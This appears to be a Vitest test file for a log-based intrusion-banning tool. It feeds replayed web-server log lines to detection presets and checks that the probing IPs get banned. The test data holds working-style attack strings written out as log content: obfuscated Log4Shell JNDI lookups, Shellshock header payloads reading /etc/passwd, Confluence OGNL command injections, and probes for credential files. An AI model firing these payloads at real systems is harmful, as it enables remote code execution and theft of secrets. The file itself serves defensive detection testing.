/**
 * Issue 13: presets catch what they claim, beyond their own samples. Each attacker below sends
 * variants of its class and must be banned by the documented preset at its documented threshold
 * (exploit-probes: one request). Replayed with every preset on (replay --all-rules).
 */
import { describe, expect, it } from 'vitest';
import { line, presetMatches, replayAll, T0 } from './harness.js';

async function bannedBy(lines: string[], ip: string): Promise<string[]> {
  const r = await replayAll(lines);
  return [...new Set(r.bans.filter((b) => b.ip === ip).map((b) => b.rule))].sort();
}

describe('exploit-probes: log4shell obfuscations in headers (one request)', () => {
  // Log4j resolves any lookup, and `${prefix:anything:-x}` to x: scanners spell `jndi` with lookups
  // the query-string list already names (${k8s:…}, ${docker:…}, ${spring:…}, ${log4j:…}, ${url:…})
  // or with a lookup of no meaning and a default.
  const payloads = [
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.18.9.9/a}',
    '${${docker:x:-j}ndi:ldap://198.18.9.9/a}',
    '${${spring:x:-j}ndi:rmi://198.18.9.9/a}',
    '${${log4j:x:-j}ndi:ldap://198.18.9.9/a}',
    '${${url:UTF-8:-j}ndi:ldap://198.18.9.9/a}',
    '${j${foo:bar:-n}di:ldap://198.18.9.9/a}',
    '${jn${x:-d}i:dns://198.18.9.9/a}',
  ];
  payloads.forEach((p, i) => {
    it(`bans a User-Agent of ${p}`, async () => {
      const ip = `198.19.3.${i + 1}`;
      expect(await bannedBy([line(ip, T0, 'GET / HTTP/1.1', 200, p)], ip)).toContain('exploit-probes');
    });
    it(`bans a referer of ${p}`, async () => {
      const ip = `198.19.4.${i + 1}`;
      expect(await bannedBy([line(ip, T0, 'GET / HTTP/1.1', 200, 'Mozilla/5.0', p)], ip)).toContain('exploit-probes');
    });
  });
});

describe('exploit-probes: Shellshock function definitions in headers (one request)', () => {
  // CVE-2014-6271 needs `() {` then any body: the original advisory and scanners use `() { ignored;};`,
  // `() { foo;};`, `() { 0; };` as often as `() { :;};`.
  const payloads = ['() { ignored; }; echo; /bin/id', '() { foo;};echo; /bin/cat /etc/passwd', '() { 0; }; /bin/bash -c id', '() { x;}; ping -c1 198.18.9.9', '(){ a;};/bin/sh -c id'];
  payloads.forEach((p, i) => {
    it(`bans a User-Agent of ${p}`, async () => {
      const ip = `198.19.5.${i + 1}`;
      expect(await bannedBy([line(ip, T0, 'GET /cgi-bin/status HTTP/1.1', 200, p)], ip)).toContain('exploit-probes');
    });
    it(`bans a referer of ${p}`, async () => {
      const ip = `198.19.6.${i + 1}`;
      expect(await bannedBy([line(ip, T0, 'GET /cgi-bin/test.cgi HTTP/1.1', 200, 'Mozilla/5.0', p)], ip)).toContain('exploit-probes');
    });
  });
  it('still leaves JavaScript in a search query alone', () => {
    expect(presetMatches('exploit-probes', line('198.18.211.1', T0, 'GET /search?q=function()+{+return;+}; HTTP/1.1', 200))).toBe(false);
  });
});

describe('wp-user-enum: WordPress installed in a subdirectory', () => {
  it('bans five REST user listings under /blog/wp-json/', async () => {
    const ip = '198.19.7.1';
    const lines = ['/blog/wp-json/wp/v2/users', '/blog/wp-json/wp/v2/users/1', '/blog/wp-json/wp/v2/users/2', '/blog/wp-json/wp/v2/users/3', '/blog/index.php/wp-json/wp/v2/users'].map((p, i) =>
      line(ip, T0 + i, `GET ${p} HTTP/1.1`, 200),
    );
    expect(await bannedBy(lines, ip)).toContain('wp-user-enum');
  });
  it('still leaves the block editor under /blog/ alone', () => {
    expect(presetMatches('wp-user-enum', line('198.18.211.2', T0, 'GET /blog/wp-json/wp/v2/users/me?_locale=user HTTP/1.1', 200))).toBe(false);
  });
});

describe('exploit-probes: Confluence OGNL (CVE-2022-26134) as published, one request', () => {
  const targets = [
    '/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22touch%20/tmp/pwned%22%29%7D/',
    '/${@java.lang.Runtime@getRuntime().exec(\\"id\\")}/', // as logged: the server escapes `"` as `\\"`
    '/%24%7BClass.forName%28%22com.opensymphony.webwork.ServletActionContext%22%29%7D/',
    '/index.action?x=%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D',
  ];
  targets.forEach((t, i) => {
    it(`bans GET ${t}`, async () => {
      const ip = `198.19.8.${i + 1}`;
      expect(await bannedBy([line(ip, T0, `GET ${t} HTTP/1.1`, 302)], ip)).toContain('exploit-probes');
    });
  });
});

describe('xmlrpc: WordPress installed in a subdirectory', () => {
  it('bans five POSTs to /blog/xmlrpc.php within a minute', async () => {
    const ip = '198.19.9.1';
    const lines = Array.from({ length: 6 }, (_, i) => line(ip, T0 + i * 5, 'POST /blog/xmlrpc.php HTTP/1.1', 200));
    expect(await bannedBy(lines, ip)).toContain('xmlrpc');
  });
});

describe('sensitive-paths: secret files, VCS metadata and backup archives beyond its samples (2 in 10 minutes)', () => {
  const pairs: [string, string][] = [
    ['/.env~', '/.envrc'], // an editor's copy of .env, direnv's secrets
    ['/.gitconfig', '/.git-credentials'],
    ['/CVS/Entries', '/CVS/Root'], // CVS keeps its metadata in CVS/ (no dot)
    ['/site.tar.bz2', '/backup.tar.xz'],
    ['/.idea/workspace.xml', '/.idea/dataSources.xml'],
  ];
  pairs.forEach(([a, b], i) => {
    it(`bans ${a} then ${b}`, async () => {
      const ip = `198.19.15.${i + 1}`;
      expect(await bannedBy([line(ip, T0, `GET ${a} HTTP/1.1`, 404), line(ip, T0 + 1, `GET ${b} HTTP/1.1`, 404)], ip)).toContain('sensitive-paths');
    });
  });
});
